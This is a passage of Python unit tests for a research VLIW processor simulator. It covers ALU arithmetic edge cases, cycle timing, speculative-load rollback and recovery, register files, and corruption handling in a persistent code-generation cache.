    assert apply("mul", MASK64, 2) == to_unsigned(-2)
    assert apply("mulh", to_unsigned(-1), to_unsigned(-1)) == 0
    assert apply("mulhu", MASK64, MASK64) == MASK64 - 1
    assert apply("mulhsu", to_unsigned(-1), MASK64) == MASK64  # -1 * huge


def test_div_by_zero_returns_all_ones():
    assert apply("div", 42, 0) == MASK64
    assert apply("divu", 42, 0) == MASK64
    assert apply("divw", 42, 0) == MASK64
    assert apply("divuw", 42, 0) == MASK64


def test_rem_by_zero_returns_dividend():
    assert apply("rem", 42, 0) == 42
    assert apply("remu", 42, 0) == 42
    assert apply("remw", to_unsigned(-7), 0) == to_unsigned(-7)


def test_div_overflow():
    minimum = to_unsigned(INT64_MIN)
    assert apply("div", minimum, MASK64) == minimum
    assert apply("rem", minimum, MASK64) == 0
    min32 = to_unsigned(-(1 << 31))
    assert apply("divw", min32, MASK64) == min32
    assert apply("remw", min32, MASK64) == 0


def test_div_truncates_toward_zero():
    assert to_signed(apply("div", to_unsigned(-7), 2)) == -3
    assert to_signed(apply("rem", to_unsigned(-7), 2)) == -1
    assert to_signed(apply("div", 7, to_unsigned(-2))) == -3
    assert to_signed(apply("rem", 7, to_unsigned(-2))) == 1


@given(U64, U64)
@settings(max_examples=200)
def test_property_results_fit_64_bits(a, b):
    for op in OPERATIONS:
        result = apply(op, a, b)
        assert 0 <= result <= MASK64, op


@given(U64, U64)
@settings(max_examples=200)
def test_property_add_sub_inverse(a, b):
    assert apply("sub", apply("add", a, b), b) == a


@given(U64, st.integers(1, MASK64))
@settings(max_examples=200)
def test_property_divu_remu_identity(a, b):
    q = apply("divu", a, b)
    r = apply("remu", a, b)
    assert apply("add", apply("mul", q, b), r) == a
    assert r < b


@given(U64, U64)
@settings(max_examples=200)
def test_property_signed_div_identity(a, b):
    if b == 0:
        return
    sa, sb = to_signed(a), to_signed(b)
    if sa == INT64_MIN and sb == -1:
        return
    q = to_signed(apply("div", a, b))
    r = to_signed(apply("rem", a, b))
    assert q * sb + r == sa
    assert abs(r) < abs(sb)


@given(U64, U64)
@settings(max_examples=100)
def test_property_logic_ops_match_python(a, b):
    assert apply("xor", a, b) == a ^ b
    assert apply("or", a, b) == a | b
    assert apply("and", a, b) == a & b


def test_div_rem_exact_above_float_precision():
    """Regression: ``div``/``rem`` truncated toward zero via ``int(sa /
    sb)`` — a *float* division, which silently rounds quotients once
    |dividend| exceeds 2**53 (e.g. ``(2**53 + 1) / 1`` == 2**53.0), so
    ``rem`` by 1 could return 1.  Division must be exact integer
    arithmetic at every magnitude."""
    big = (1 << 53) + 1
    assert apply("div", big, 1) == big
    assert apply("rem", big, 1) == 0
    assert apply("div", to_unsigned(-big), 1) == to_unsigned(-big)
    assert apply("rem", to_unsigned(-big), 1) == 0
    # Truncation toward zero (not floor) still holds for mixed signs.
    assert to_signed(apply("div", to_unsigned(-big), 2)) == -(big // 2)
    assert to_signed(apply("rem", to_unsigned(-big), 2)) == -1
    # A case where float rounding flips the quotient itself.
    a, b = (1 << 62) + 1, (1 << 31) + 1
    assert to_signed(apply("div", a, b)) == a // b
    assert to_signed(apply("rem", a, b)) == a - (a // b) * b
