"""Cycle-level pipeline tests: timing, exits, MCB rollback, side effects."""

import pytest

from repro.mem.cache import CacheConfig
from repro.mem.hierarchy import DataMemorySystem
from repro.vliw.block import TranslatedBlock
from repro.vliw.bundle import Bundle
from repro.vliw.config import VliwConfig
from repro.vliw.isa import Condition, VliwOp, VliwOpcode
from repro.vliw.pipeline import ExitReason, VliwCore, VliwExecutionError

CONFIG = VliwConfig(cache=CacheConfig(
    size_bytes=1024, line_size=64, associativity=2,
    hit_latency=3, miss_latency=30,
))


def make_core() -> VliwCore:
    return VliwCore(CONFIG, DataMemorySystem(cache_config=CONFIG.cache))


def block(*bundle_ops, entry=0x1000, guest_length=0, recovery=None):
    bundles = tuple(Bundle(ops=tuple(ops)) for ops in bundle_ops)
    return TranslatedBlock(
        guest_entry=entry, bundles=bundles,
        guest_length=guest_length or len(bundles), recovery=recovery,
    )


def jump(target=0x2000):
    return VliwOp(VliwOpcode.JUMP, target=target)


def li(dest, value):
    return VliwOp(VliwOpcode.LI, dest=dest, imm=value)


def test_block_must_end_with_exit():
    core = make_core()
    bad = block([li(1, 5)])
    with pytest.raises(VliwExecutionError, match="fell off the end"):
        core.execute_block(bad)


def test_jump_exit():
    core = make_core()
    result = core.execute_block(block([li(1, 5)], [jump(0x4242)]))
    assert result.reason is ExitReason.JUMP
    assert result.next_pc == 0x4242
    assert core.regs.read(1) == 5


def test_one_bundle_per_cycle():
    core = make_core()
    core.execute_block(block([li(1, 1)], [li(2, 2)], [li(3, 3)], [jump()]))
    assert core.cycle == 4


def test_load_use_stall():
    core = make_core()
    core.memory.poke(0x100, 99, 8)
    # Warm the line so latency is the hit latency (3).
    core.memory.load(0x100, 8)
    load = VliwOp(VliwOpcode.LOAD, dest=1, src1=0, imm=0x100)
    use = VliwOp(VliwOpcode.ALU, alu_op="add", dest=2, src1=1, src2=1)
    core.execute_block(block([load], [use], [jump()]))
    # load at 0, value ready at 3, use stalls 1->3, jump at 4, +1.
    assert core.regs.read(2) == 198
    assert core.cycle == 5
    assert core.stats.stall_cycles == 2


def test_independent_work_hides_load_latency():
    core = make_core()
    core.memory.load(0x100, 8)  # warm
    load = VliwOp(VliwOpcode.LOAD, dest=1, src1=0, imm=0x100)
    other = [li(10 + i, i) for i in range(3)]
    use = VliwOp(VliwOpcode.ALU, alu_op="add", dest=2, src1=1, src2=1)
    core.execute_block(block([load], *[[op] for op in other], [use], [jump()]))
    assert core.stats.stall_cycles == 0


def test_miss_latency_much_longer():
    core = make_core()
    load = VliwOp(VliwOpcode.LOAD, dest=1, src1=0, imm=0x100)
    use = VliwOp(VliwOpcode.ALU, alu_op="add", dest=2, src1=1, src2=1)
    core.execute_block(block([load], [use], [jump()]))
    assert core.stats.stall_cycles == 29  # issue 0, ready 30, use stalled 1..30


def test_rdcycle_serialises():
    core = make_core()
    load = VliwOp(VliwOpcode.LOAD, dest=1, src1=0, imm=0x100)
    t0 = VliwOp(VliwOpcode.RDCYCLE, dest=5)
    t1 = VliwOp(VliwOpcode.RDCYCLE, dest=6)
    core.execute_block(block([t0], [load], [t1], [jump()]))
    measured = core.regs.read(6) - core.regs.read(5)
    assert measured == 1 + 30  # issue + miss latency


def test_branch_taken_charges_penalty_and_skips_rest():
    core = make_core()
    taken = VliwOp(VliwOpcode.BRANCH, condition=Condition.EQ,
                   src1=0, src2=0, target=0x3000)
    poison = li(7, 99)
    result = core.execute_block(block([taken], [poison], [jump()]))
    assert result.reason is ExitReason.BRANCH
    assert result.next_pc == 0x3000
    assert core.regs.read(7) == 0  # later bundle never executed
    assert core.cycle == 1 + CONFIG.exit_penalty


def test_branch_not_taken_falls_through():
    core = make_core()
    not_taken = VliwOp(VliwOpcode.BRANCH, condition=Condition.NE,
                       src1=0, src2=0, target=0x3000)
    result = core.execute_block(block([not_taken], [jump(0x2000)]))
    assert result.next_pc == 0x2000


def test_ops_in_same_bundle_as_taken_branch_still_execute():
    # VLIW semantics: the whole bundle executes, then the redirect.
    core = make_core()
    taken = VliwOp(VliwOpcode.BRANCH, condition=Condition.EQ,
                   src1=0, src2=0, target=0x3000)
    sibling = li(9, 42)
    result = core.execute_block(block([taken, sibling], [jump()]))
    assert result.reason is ExitReason.BRANCH
    assert core.regs.read(9) == 42


def test_indirect_exit():
    core = make_core()
    core.regs.write(1, 0x5554)
    ret = VliwOp(VliwOpcode.JUMPR, src1=1, imm=1)  # bit 0 cleared
    result = core.execute_block(block([ret]))
    assert result.reason is ExitReason.INDIRECT
    assert result.next_pc == 0x5554  # (0x5554 + 1) & ~1


def test_syscall_exit():
    core = make_core()
    syscall = VliwOp(VliwOpcode.SYSCALL, target=0x1010)
    result = core.execute_block(block([syscall]))
    assert result.reason is ExitReason.SYSCALL
    assert result.next_pc == 0x1010


def test_store_and_cflush_effects():
    core = make_core()
    core.regs.write(1, 0x200)
    core.regs.write(2, 77)
    store = VliwOp(VliwOpcode.STORE, src1=1, src2=2, imm=0)
    flush = VliwOp(VliwOpcode.CFLUSH, src1=1, imm=0)
    core.execute_block(block([store], [flush], [jump()]))
    assert core.memory.peek(0x200, 8) == 77
    assert not core.memory.cache.probe(0x200)


def test_read_before_write_within_bundle():
    core = make_core()
    core.regs.write(1, 5)
    # Both ops read r1's old value even though the first writes r1.
    bump = VliwOp(VliwOpcode.ALU, alu_op="add", dest=1, src1=1, imm=10)
    copy = VliwOp(VliwOpcode.MOV, dest=2, src1=1)
    core.execute_block(block([bump, copy], [jump()]))
    assert core.regs.read(1) == 15
    assert core.regs.read(2) == 5


def test_mcb_conflict_rolls_back_and_runs_recovery():
    config = CONFIG
    core = make_core()
    core.memory.poke(0x100, 111, 8)  # stale value
    core.regs.write(1, 0x100)
    core.regs.write(2, 222)

    spec_load = VliwOp(VliwOpcode.LOAD, dest=3, src1=1, imm=0,
                       speculative=True, spec_tag=1)
    store = VliwOp(VliwOpcode.STORE, src1=1, src2=2, imm=0,
                   mcb_releases=(1,))
    recovery = block(
        [VliwOp(VliwOpcode.STORE, src1=1, src2=2, imm=0)],
        [VliwOp(VliwOpcode.LOAD, dest=3, src1=1, imm=0)],
        [jump(0x9999)],
    )
    speculative_block = block([spec_load], [store], [jump(0x9999)],
                              recovery=recovery)
    result = core.execute_block(speculative_block)
    assert result.rolled_back
    assert core.stats.rollbacks == 1
    # Recovery executed in order: r3 holds the *stored* value.
    assert core.regs.read(3) == 222
    assert core.memory.peek(0x100, 8) == 222
    # The cache keeps the speculatively touched line (the leak!).
    assert core.memory.cache.probe(0x100)


def test_mcb_rollback_restores_registers_and_stores():
    core = make_core()
    core.memory.poke(0x100, 1, 8)
    core.memory.poke(0x300, 50, 8)
    core.regs.write(1, 0x100)
    core.regs.write(2, 9)
    core.regs.write(4, 0x300)
    core.regs.write(5, 60)

    clobber = li(6, 12345)
    early_store = VliwOp(VliwOpcode.STORE, src1=4, src2=5, imm=0)  # 0x300=60
    spec_load = VliwOp(VliwOpcode.LOAD, dest=3, src1=1, imm=0,
                       speculative=True, spec_tag=1)
    conflicting = VliwOp(VliwOpcode.STORE, src1=1, src2=2, imm=0)
    recovery = block([jump(0x7777)], entry=0x1000)
    speculative_block = block(
        [clobber], [spec_load], [early_store], [conflicting], [jump(0x7777)],
        recovery=recovery,
    )
    core.execute_block(speculative_block)
    # Register writes and the early store were undone before recovery.
    assert core.regs.read(6) == 0
    assert core.regs.read(3) == 0
    assert core.memory.peek(0x300, 8) == 50
    assert core.memory.peek(0x100, 8) == 1


def test_mcb_release_prevents_false_conflict():
    core = make_core()
    core.regs.write(1, 0x100)
    core.regs.write(2, 5)
    # Speculative load of 0x180, store to 0x100 (release), store to 0x180.
    spec_load = VliwOp(VliwOpcode.LOAD, dest=3, src1=1, imm=0x80,
                       speculative=True, spec_tag=1)
    bypassed = VliwOp(VliwOpcode.STORE, src1=1, src2=2, imm=0,
                      mcb_releases=(1,))
    same_address = VliwOp(VliwOpcode.STORE, src1=1, src2=2, imm=0x80)
    b = block([spec_load], [bypassed], [same_address], [jump()])
    result = core.execute_block(b)
    assert not result.rolled_back
    assert core.stats.rollbacks == 0


def test_mcb_overflow_triggers_rollback():
    config = VliwConfig(mcb_entries=1, cache=CONFIG.cache)
    core = VliwCore(config, DataMemorySystem(cache_config=config.cache))
    core.regs.write(1, 0x100)
    loads = [
        VliwOp(VliwOpcode.LOAD, dest=3 + i, src1=1, imm=i * 8,
               speculative=True, spec_tag=i + 1)
        for i in range(2)
    ]
    recovery = block([jump(0x1234)])
    b = block([loads[0]], [loads[1]], [jump(0x1234)], recovery=recovery)
    result = core.execute_block(b)
    assert result.rolled_back
    assert core.mcb.overflows == 1


def test_missing_recovery_is_an_error():
    core = make_core()
    core.regs.write(1, 0x100)
    spec_load = VliwOp(VliwOpcode.LOAD, dest=3, src1=1, imm=0,
                       speculative=True, spec_tag=1)
    store = VliwOp(VliwOpcode.STORE, src1=1, src2=0, imm=0)
    b = block([spec_load], [store], [jump()])
    with pytest.raises(VliwExecutionError, match="no recovery"):
        core.execute_block(b)


def test_rdcycle_reads_issue_cycle():
    core = make_core()
    rd = VliwOp(VliwOpcode.RDCYCLE, dest=5)
    core.execute_block(block([li(1, 0)], [rd], [jump()]))
    assert core.regs.read(5) == 1


def test_guest_instruction_attribution():
    core = make_core()
    result = core.execute_block(block([li(1, 0)], [jump()], guest_length=7))
    assert result.guest_instructions == 7
    assert core.instret == 7
