"""Tier-3 host codegen units: lowering, memoization, the persistent
cross-process cache and its corruption tolerance.

Bit-identity of the compiled tier against the other two is gated
end-to-end in ``tests/platform/test_fastpath_differential.py``; this
file pins the generator's plumbing — stable persistence keys, memo and
persist-hit accounting, poisoned-compile detection, and the quarantine
behavior of every way an on-disk envelope can rot.
"""

import json

import pytest

from repro.dbt.translation_cache import PersistentCodegenCache
from repro.vliw.block import TranslatedBlock
from repro.vliw.bundle import make_bundle
from repro.vliw.codegen import (
    CodegenStats,
    compile_block,
    ensure_compiled,
    persist_key,
    _Lowering,
)
from repro.vliw.config import VliwConfig
from repro.vliw.fastpath import finalize_block
from repro.vliw.isa import VliwOp, VliwOpcode
from repro.vliw.pipeline import VliwExecutionError

CONFIG = VliwConfig()


def _block(entry=0x100, kind="reoptimized"):
    bundles = (
        make_bundle([VliwOp(opcode=VliwOpcode.LI, dest=5, imm=7)], CONFIG),
        make_bundle([VliwOp(opcode=VliwOpcode.ALU, alu_op="add", dest=6,
                            src1=5, src2=5)], CONFIG),
        make_bundle([VliwOp(opcode=VliwOpcode.JUMP, target=entry + 12)],
                    CONFIG),
    )
    return TranslatedBlock(guest_entry=entry, bundles=bundles,
                           guest_length=3, kind=kind)


def _fblock(entry=0x100):
    return finalize_block(_block(entry), CONFIG)


# ---------------------------------------------------------------------------
# Lowering and compilation.
# ---------------------------------------------------------------------------

def test_compile_block_produces_callable_and_counts():
    stats = CodegenStats()
    fn, key = compile_block(_fblock(), stats)
    assert callable(fn)
    assert key is None  # no persistent cache attached
    assert stats.compiles == 1
    assert stats.bytes > 0


def test_generated_source_is_straight_line():
    """The whole point of the tier: bundle loops unrolled, no generic
    dispatch ladder left in the emitted body."""
    lowering = _Lowering(_fblock())
    source = lowering.source()
    assert "def _block_fn(core, store_log):" in source
    body = source.split("def _block_fn", 1)[1]
    assert "for " not in body
    assert "elif" not in body


def test_ensure_compiled_memoizes_on_block():
    stats = CodegenStats()
    fblock = _fblock()
    first = ensure_compiled(fblock, stats)
    second = ensure_compiled(fblock, stats)
    assert first is second is fblock.compiled
    assert stats.compiles == 1
    assert stats.hits == 1


def test_poisoned_block_compiles_to_raising_fn():
    block = _block()
    block._codegen_poison = True
    fblock = finalize_block(block, CONFIG)
    fn, key = compile_block(fblock)
    assert key is None
    with pytest.raises(VliwExecutionError):
        fn(None, None)


# ---------------------------------------------------------------------------
# Persistence keys.
# ---------------------------------------------------------------------------

def test_persist_key_deterministic_across_lowerings():
    key_a = persist_key(_Lowering(_fblock()), "unsafe")
    key_b = persist_key(_Lowering(_fblock()), "unsafe")
    assert key_a == key_b


def test_persist_key_stable_across_hash_randomization():
    """The key must be identical in *other processes*: ``VliwConfig``
    holds frozensets of enum members, whose iteration order follows the
    per-process hash seed — a repr-based key silently misses on every
    new process (each ``--jobs`` worker and each CLI run would
    recompile and litter the tcache dir with orphan envelopes)."""
    import os
    import subprocess
    import sys

    script = (
        "from repro.vliw.codegen import persist_key, _Lowering\n"
        "from repro.vliw.fastpath import finalize_block\n"
        "from tests.vliw.test_codegen import _block, CONFIG\n"
        "print(persist_key(_Lowering(finalize_block(_block(), CONFIG)),"
        " 'unsafe'))\n")
    keys = set()
    for seed in ("1", "2"):
        env = dict(os.environ, PYTHONHASHSEED=seed,
                   PYTHONPATH=os.pathsep.join(
                       filter(None, [os.environ.get("PYTHONPATH", ""),
                                     os.getcwd()])))
        out = subprocess.run([sys.executable, "-c", script], env=env,
                             capture_output=True, text=True, check=True)
        keys.add(out.stdout.strip())
    assert len(keys) == 1, "persist key differs across hash seeds"
    assert keys == {persist_key(_Lowering(_fblock()), "unsafe")}


def test_persist_key_covers_policy_config_and_content():
    base = persist_key(_Lowering(_fblock()), "unsafe")
    assert persist_key(_Lowering(_fblock()), "ghostbusters") != base
    other_config = VliwConfig(rollback_penalty=CONFIG.rollback_penalty + 1)
    other = finalize_block(_block(), other_config)
    assert persist_key(_Lowering(other), "unsafe") != base
    moved = finalize_block(_block(entry=0x200), CONFIG)
    assert persist_key(_Lowering(moved), "unsafe") != base


# ---------------------------------------------------------------------------
# Persistent cache round trip.
# ---------------------------------------------------------------------------

def test_cold_then_warm_round_trip(tmp_path):
    persistent = PersistentCodegenCache(tmp_path)
    cold = CodegenStats()
    fblock = _fblock()
    ensure_compiled(fblock, cold, persistent, "unsafe")
    assert cold.compiles == 1
    assert cold.persist_stores == 1
    assert persistent._path(fblock.persist_key).exists()
    # No half-written temp file survives the atomic store.
    assert not list(tmp_path.glob("*.tmp"))

    # A "new process": fresh cache object, fresh finalized form.
    warm_cache = PersistentCodegenCache(tmp_path)
    warm = CodegenStats()
    fresh = _fblock()
    fn = ensure_compiled(fresh, warm, warm_cache, "unsafe")
    assert callable(fn)
    assert warm.compiles == 0
    assert warm.persist_hits == 1
    assert warm.persist_stores == 0


def test_discard_removes_envelope_and_memo(tmp_path):
    persistent = PersistentCodegenCache(tmp_path)
    fblock = _fblock()
    ensure_compiled(fblock, None, persistent, "unsafe")
    key = fblock.persist_key
    persistent.discard(key)
    assert not persistent._path(key).exists()
    assert persistent.load(key) is None


# ---------------------------------------------------------------------------
# Corruption tolerance: every rot mode quarantines and recompiles.
# ---------------------------------------------------------------------------

def _persisted(tmp_path):
    persistent = PersistentCodegenCache(tmp_path)
    fblock = _fblock()
    ensure_compiled(fblock, None, persistent, "unsafe")
    return persistent._path(fblock.persist_key), fblock.persist_key


def _assert_quarantined(tmp_path, path, key):
    """A fresh cache must reject the envelope, move it aside, and a
    recompile must succeed and re-persist."""
    cache = PersistentCodegenCache(tmp_path)
    assert cache.load(key) is None
    assert cache.quarantined == 1
    assert not path.exists()
    assert (tmp_path / "quarantine" / path.name).exists()
    stats = CodegenStats()
    ensure_compiled(_fblock(), stats, cache, "unsafe")
    assert stats.compiles == 1
    assert stats.quarantined == 1
    assert path.exists()  # healed


def test_bit_flip_quarantined(tmp_path):
    path, key = _persisted(tmp_path)
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))
    _assert_quarantined(tmp_path, path, key)


def test_invalid_utf8_quarantined(tmp_path):
    """A flip can break UTF-8 before it breaks JSON; the read itself
    must quarantine, not crash."""
    path, key = _persisted(tmp_path)
    data = bytearray(path.read_bytes())
    data[len(data) // 2] = 0x8A
    path.write_bytes(bytes(data))
    _assert_quarantined(tmp_path, path, key)


def test_truncation_quarantined(tmp_path):
    path, key = _persisted(tmp_path)
    path.write_bytes(path.read_bytes()[: len(path.read_bytes()) // 2])
    _assert_quarantined(tmp_path, path, key)


def test_version_mismatch_quarantined(tmp_path):
    path, key = _persisted(tmp_path)
    envelope = json.loads(path.read_text())
    envelope["version"] = 999
    path.write_text(json.dumps(envelope))
    _assert_quarantined(tmp_path, path, key)


def test_key_mismatch_quarantined(tmp_path):
    """An envelope renamed (or hash-collided) onto the wrong key must
    not load under it."""
    path, key = _persisted(tmp_path)
    envelope = json.loads(path.read_text())
    envelope["key"] = "0" * 64
    path.write_text(json.dumps(envelope))
    _assert_quarantined(tmp_path, path, key)


def test_checksum_mismatch_quarantined(tmp_path):
    """Valid JSON, valid base64, wrong payload: only the sha256 layer
    can catch this."""
    path, key = _persisted(tmp_path)
    envelope = json.loads(path.read_text())
    envelope["sha256"] = "0" * 64
    path.write_text(json.dumps(envelope))
    _assert_quarantined(tmp_path, path, key)


def test_missing_envelope_is_a_clean_miss(tmp_path):
    cache = PersistentCodegenCache(tmp_path)
    assert cache.load("f" * 64) is None
    assert cache.quarantined == 0
