"""VLIW op model, machine config and register-file tests."""

import pytest

from repro.vliw.config import UnitClass, VliwConfig, wide_config
from repro.vliw.isa import Condition, VliwOp, VliwOpcode
from repro.vliw.regfile import ARCH_WINDOW, VliwRegisterFile


# ---------------------------------------------------------------------------
# VliwOp.
# ---------------------------------------------------------------------------

def test_alu_op_validation():
    with pytest.raises(ValueError):
        VliwOp(VliwOpcode.ALU, alu_op="nope", dest=1, src1=2)
    with pytest.raises(ValueError):
        VliwOp(VliwOpcode.ALU, alu_op="add")  # missing dest/src1


def test_branch_validation():
    with pytest.raises(ValueError):
        VliwOp(VliwOpcode.BRANCH, src1=1, src2=2, target=4)  # no condition
    with pytest.raises(ValueError):
        VliwOp(VliwOpcode.BRANCH, condition=Condition.EQ, src1=1, src2=2)


def test_only_loads_speculative():
    with pytest.raises(ValueError):
        VliwOp(VliwOpcode.STORE, src1=1, src2=2, speculative=True)
    load = VliwOp(VliwOpcode.LOAD, dest=1, src1=2)
    spec = load.as_speculative(tag=4)
    assert spec.speculative and spec.spec_tag == 4
    with pytest.raises(ValueError):
        VliwOp(VliwOpcode.MOV, dest=1, src1=2).as_speculative()


def test_with_releases_only_on_stores():
    store = VliwOp(VliwOpcode.STORE, src1=1, src2=2)
    assert store.with_releases((1, 2)).mcb_releases == (1, 2)
    with pytest.raises(ValueError):
        VliwOp(VliwOpcode.LOAD, dest=1, src1=2).with_releases((1,))


def test_unit_classification():
    assert VliwOp(VliwOpcode.LOAD, dest=1, src1=2).unit is UnitClass.MEM
    assert VliwOp(VliwOpcode.ALU, alu_op="mul", dest=1, src1=2, src2=3).unit is UnitClass.MUL
    assert VliwOp(VliwOpcode.ALU, alu_op="div", dest=1, src1=2, src2=3).unit is UnitClass.DIV
    assert VliwOp(VliwOpcode.ALU, alu_op="add", dest=1, src1=2, src2=3).unit is UnitClass.ALU
    assert VliwOp(VliwOpcode.JUMP, target=0).unit is UnitClass.BRANCH
    assert VliwOp(VliwOpcode.SYSCALL).unit is UnitClass.SYSTEM
    assert VliwOp(VliwOpcode.MOV, dest=1, src1=2).unit is UnitClass.ALU


def test_sources_and_destination():
    op = VliwOp(VliwOpcode.ALU, alu_op="add", dest=3, src1=1, src2=2)
    assert op.sources() == (1, 2)
    assert op.destination() == 3
    zero_dest = VliwOp(VliwOpcode.ALU, alu_op="add", dest=0, src1=1, src2=2)
    assert zero_dest.destination() is None


def test_condition_negation():
    assert Condition.EQ.negated() is Condition.NE
    assert Condition.LT.negated() is Condition.GE
    assert Condition.GEU.negated() is Condition.LTU
    for condition in Condition:
        assert condition.negated().negated() is condition


def test_describe_smoke():
    ops = [
        VliwOp(VliwOpcode.LOAD, dest=1, src1=2, speculative=True),
        VliwOp(VliwOpcode.STORE, src1=1, src2=2),
        VliwOp(VliwOpcode.BRANCH, condition=Condition.LT, src1=1, src2=2, target=8),
        VliwOp(VliwOpcode.RDCYCLE, dest=4),
        VliwOp(VliwOpcode.FENCE),
    ]
    for op in ops:
        assert op.describe()
    assert "ld.spec" in ops[0].describe()


# ---------------------------------------------------------------------------
# Config.
# ---------------------------------------------------------------------------

def test_default_config_shape():
    config = VliwConfig()
    assert config.issue_width == 4
    assert config.num_hidden_registers == 32
    assert list(config.hidden_registers()) == list(range(32, 64))


def test_config_validation():
    with pytest.raises(ValueError):
        VliwConfig(slots=())
    with pytest.raises(ValueError):
        VliwConfig(num_registers=32)
    with pytest.raises(ValueError):
        VliwConfig(mcb_entries=0)


def test_wide_config():
    config = wide_config(8)
    assert config.issue_width == 8
    assert len(config.slots_for(UnitClass.MEM)) == 2
    with pytest.raises(ValueError):
        wide_config(2)


# ---------------------------------------------------------------------------
# Register file.
# ---------------------------------------------------------------------------

def test_regfile_r0_hardwired():
    regs = VliwRegisterFile(64)
    regs.write(0, 55)
    assert regs.read(0) == 0


def test_regfile_masks_to_64_bits():
    regs = VliwRegisterFile(64)
    regs.write(1, 1 << 64)
    assert regs.read(1) == 0


def test_architectural_window():
    regs = VliwRegisterFile(64)
    regs.write(31, 7)
    regs.write(32, 9)  # hidden
    window = regs.architectural()
    assert len(window) == ARCH_WINDOW
    assert window[31] == 7
    regs.load_architectural([0] * 32)
    assert regs.read(31) == 0
    assert regs.read(32) == 9  # hidden untouched


def test_snapshot_restore():
    regs = VliwRegisterFile(64)
    regs.write(5, 42)
    snapshot = regs.snapshot()
    regs.write(5, 1)
    regs.restore(snapshot)
    assert regs.read(5) == 42
    with pytest.raises(ValueError):
        regs.restore([0] * 63)


def test_regfile_size_validation():
    with pytest.raises(ValueError):
        VliwRegisterFile(16)
