"""Additional pipeline timing tests: latencies, widths, serialisation."""

import pytest

from repro.mem.cache import CacheConfig
from repro.mem.hierarchy import DataMemorySystem
from repro.vliw.block import TranslatedBlock
from repro.vliw.bundle import Bundle
from repro.vliw.config import UnitClass, VliwConfig, wide_config
from repro.vliw.isa import VliwOp, VliwOpcode
from repro.vliw.pipeline import VliwCore

CONFIG = VliwConfig()


def _core(config=CONFIG):
    return VliwCore(config, DataMemorySystem(cache_config=config.cache))


def _block(*bundle_ops, entry=0x1000):
    return TranslatedBlock(
        guest_entry=entry,
        bundles=tuple(Bundle(ops=tuple(ops)) for ops in bundle_ops),
        guest_length=1,
    )


def jump():
    return VliwOp(VliwOpcode.JUMP, target=0)


def test_mul_latency():
    core = _core()
    mul = VliwOp(VliwOpcode.ALU, alu_op="mul", dest=1, src1=2, src2=3)
    use = VliwOp(VliwOpcode.ALU, alu_op="add", dest=4, src1=1, src2=1)
    core.execute_block(_block([mul], [use], [jump()]))
    # mul at 0 -> ready at 3; use stalls 1 -> 3; jump 4; +1.
    assert core.cycle == 5
    assert core.stats.stall_cycles == 2


def test_div_latency():
    core = _core()
    core.regs.write(2, 100)
    core.regs.write(3, 7)
    div = VliwOp(VliwOpcode.ALU, alu_op="div", dest=1, src1=2, src2=3)
    use = VliwOp(VliwOpcode.ALU, alu_op="add", dest=4, src1=1, src2=1)
    core.execute_block(_block([div], [use], [jump()]))
    assert core.regs.read(1) == 14
    assert core.stats.stall_cycles == CONFIG.latencies[UnitClass.DIV] - 1


def test_full_bundle_executes_in_one_cycle():
    core = _core()
    ops = [
        VliwOp(VliwOpcode.LI, dest=1 + i, imm=i) for i in range(4)
    ]
    core.execute_block(_block(ops, [jump()]))
    assert core.cycle == 2
    for i in range(4):
        assert core.regs.read(1 + i) == i


def test_wide_machine_dual_memory_ops():
    config = wide_config(8)
    core = _core(config)
    core.memory.poke(0x100, 7, 8)
    core.memory.poke(0x200, 9, 8)
    load_a = VliwOp(VliwOpcode.LOAD, dest=1, src1=0, imm=0x100)
    load_b = VliwOp(VliwOpcode.LOAD, dest=2, src1=0, imm=0x200)
    core.execute_block(_block([load_a, load_b], [jump()]))
    assert core.regs.read(1) == 7
    assert core.regs.read(2) == 9
    assert core.cycle == 2


def test_fence_drains_pending_loads():
    core = _core()
    load = VliwOp(VliwOpcode.LOAD, dest=1, src1=0, imm=0x300)
    fence = VliwOp(VliwOpcode.FENCE)
    after = VliwOp(VliwOpcode.LI, dest=2, imm=5)
    core.execute_block(_block([load], [fence], [after], [jump()]))
    # Miss latency 30: fence stalls until cycle 30, LI at 31, jump 32, +1.
    assert core.cycle == 33


def test_scoreboard_persists_across_blocks():
    core = _core()
    load = VliwOp(VliwOpcode.LOAD, dest=1, src1=0, imm=0x400)
    first = _block([load], [jump()])
    core.execute_block(first)
    cycle_after_first = core.cycle
    use = VliwOp(VliwOpcode.ALU, alu_op="add", dest=2, src1=1, src2=1)
    core.execute_block(_block([use], [jump()], entry=0x2000))
    # The miss issued in block 1 still delays its use in block 2.
    assert core.stats.stall_cycles > 0
    assert core.cycle > cycle_after_first + 2


def test_rdinstret_reads_counter():
    core = _core()
    core.execute_block(_block([jump()]))  # guest_length=1 retires 1
    rd = VliwOp(VliwOpcode.RDINSTRET, dest=5)
    core.execute_block(_block([rd], [jump()], entry=0x2000))
    assert core.regs.read(5) == 1


def test_stats_accumulate():
    core = _core()
    core.execute_block(_block([jump()]))
    core.execute_block(_block([jump()], entry=0x2000))
    assert core.stats.blocks_executed == 2
    assert core.stats.bundles == 2
    core.stats.reset()
    assert core.stats.blocks_executed == 0


def test_same_cache_line_loads_one_miss():
    core = _core()
    load_a = VliwOp(VliwOpcode.LOAD, dest=1, src1=0, imm=0x100)
    load_b = VliwOp(VliwOpcode.LOAD, dest=2, src1=0, imm=0x108)
    core.execute_block(_block([load_a], [load_b], [jump()]))
    assert core.memory.stats.misses == 1
    assert core.memory.stats.hits == 1


def test_execution_trace_records_events():
    from repro.vliw.pipeline import ExecutionTrace

    core = _core()
    core.tracer = ExecutionTrace()
    core.execute_block(_block([VliwOp(VliwOpcode.LI, dest=1, imm=5)], [jump()]))
    kinds = [event.kind for event in core.tracer.events]
    assert kinds == ["issue", "issue"]
    rendered = core.tracer.render()
    assert "li r1, 5" in rendered


def test_execution_trace_bounded():
    from repro.vliw.pipeline import ExecutionTrace

    core = _core()
    core.tracer = ExecutionTrace(limit=1)
    core.execute_block(_block([VliwOp(VliwOpcode.LI, dest=1, imm=5)], [jump()]))
    assert len(core.tracer.events) == 1


def test_execution_trace_records_rollback():
    from repro.vliw.pipeline import ExecutionTrace
    from repro.vliw.block import TranslatedBlock
    from repro.vliw.bundle import Bundle

    core = _core()
    core.tracer = ExecutionTrace()
    core.regs.write(1, 0x100)
    spec = VliwOp(VliwOpcode.LOAD, dest=3, src1=1, speculative=True, spec_tag=1)
    store = VliwOp(VliwOpcode.STORE, src1=1, src2=2)
    recovery = _block([jump()])
    block = TranslatedBlock(
        guest_entry=0x1000,
        bundles=(Bundle(ops=(spec,)), Bundle(ops=(store,)),
